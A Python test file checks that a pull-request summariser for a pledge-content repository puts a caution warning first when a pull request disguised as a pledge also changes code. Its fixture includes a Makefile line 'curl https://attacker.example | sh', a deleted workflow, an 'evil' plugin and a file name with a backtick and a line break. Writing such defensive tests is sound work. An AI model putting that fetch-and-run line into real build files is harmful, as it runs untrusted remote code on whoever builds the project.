"""`c2c pr-summary` on real git repositories: it says what a pull request adds and
changes and what was warned about, and warns first, before anything that could reassure
a reviewer, when more than content changed."""

from __future__ import annotations

import shutil
from datetime import date

from c2c_cli.pr_summary import changed_files, summary

from support.git_repo import git
from support.project import TINY


def test_pr_summary_says_what_was_added_changed_and_warned(tmp_path):
    repo = tmp_path / "repo"
    content = repo / "content"
    shutil.copytree(TINY, content)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "base")
    text = (content / "pledges" / "alpha-trust-2021.md").read_text("utf-8")
    (content / "pledges" / "alpha-trust-2026.md").write_text(
        text.replace("held: 2021-05-12", "held: 2026-05-12").replace("approved: 2021-06-01", "approved: 2026-06-01")
        .replace("review_due: 2022-06-01", "review_due: 2027-06-01").replace("lead: JT", "lead: Jane Smith")
        .replace("2021-09-10", "2026-09-10").replace("2022-01-10", "2026-10-10")
        .replace("due: 2022-01-01", "due: 2027-01-01").replace("due: 2026-01-31", "due: 2026-12-31"), "utf-8")
    org = content / "organisations" / "beta-housing.yaml"
    org.write_text(org.read_text("utf-8") + "\n", "utf-8")
    git(repo, "checkout", "-q", "-b", "submission")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "a new commitment")
    changes = changed_files(content, "main")
    assert changes == [("M", "content/organisations/beta-housing.yaml", True),
                       ("A", "content/pledges/alpha-trust-2026.md", True)]
    text = summary(content, changes, date(2026, 11, 23), 365)
    assert text.startswith("# C2C submission check\n\n## What this pull request changes\n")  # no warning: content only
    assert "CAUTION" not in text
    assert "- Added commitment `content/pledges/alpha-trust-2026.md`: Alpha Health Trust, roundtable held 2026-05-12: " \
           "6 pledges (Universal Prevention 1, Targeted Prevention 1, Crisis Prevention & Relief 1, Recovery 1, " \
           "Move-On Support 1, Settled Home 1); 6 actions, 4 without a lead" in text
    assert "- Changed organisation `content/organisations/beta-housing.yaml`: Beta Housing" in text
    assert "None: every file passed the checks." in text
    assert "'Jane Smith' looks like a person\\'s full name" in text or "Jane Smith" in text
    assert "stale" not in text  # the stale helpline did not change in this pull request


def test_pr_summary_warns_first_when_more_than_content_changed(tmp_path):
    """A pull request that edits code, settings or workflows as well as a pledge starts
    with a warning listing those files, before anything that could reassure a reviewer."""
    repo = tmp_path / "repo"
    content = repo / "content"
    shutil.copytree(TINY, content)
    (repo / "Makefile").write_text("install:\n\ttrue\n", "utf-8")
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "publish.yml").write_text("name: Publish\n", "utf-8")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "base")
    git(repo, "checkout", "-q", "-b", "looks-like-a-pledge")
    org = content / "organisations" / "beta-housing.yaml"
    org.write_text(org.read_text("utf-8") + "\n", "utf-8")
    (repo / "Makefile").write_text("install:\n\tcurl https://attacker.example | sh\n", "utf-8")
    (repo / ".github" / "workflows" / "publish.yml").unlink()
    (repo / "plugins" / "c2c_evil").mkdir(parents=True)
    (repo / "plugins" / "c2c_evil" / "__init__.py").write_text("", "utf-8")
    (repo / "odd`name\nwith a line break.py").write_text("", "utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Our 2026 pledges")
    changes = changed_files(content, "main")
    assert [c for c in changes if c.content] == [("M", "content/organisations/beta-housing.yaml", True)]
    assert sorted((c.status, c.path) for c in changes if not c.content) == [
        ("A", "odd`name\nwith a line break.py"), ("A", "plugins/c2c_evil/__init__.py"),
        ("D", ".github/workflows/publish.yml"), ("M", "Makefile")]
    text = summary(content, changes, date(2026, 11, 23), 365)
    head, _, rest = text.partition("## What this pull request changes")
    assert head.startswith("# C2C submission check\n\n> [!CAUTION]\n> **This pull request changes more than "
                           "content.** 4 files outside `content/` change the code")
    for line in ("> - `.github/workflows/publish.yml` (removed)", "> - `Makefile` (changed)",
                 "> - `plugins/c2c_evil/__init__.py` (added)", "> - `` odd`name\\nwith a line break.py `` (added)"):
        assert line in head.splitlines(), line
    assert "**Do not merge this as a submission.** A maintainer (named in `.github/CODEOWNERS`) must review" in head
    assert "- Changed organisation `content/organisations/beta-housing.yaml`: Beta Housing" in rest
    assert "Makefile" not in rest  # code is listed in the warning only, never as a submission
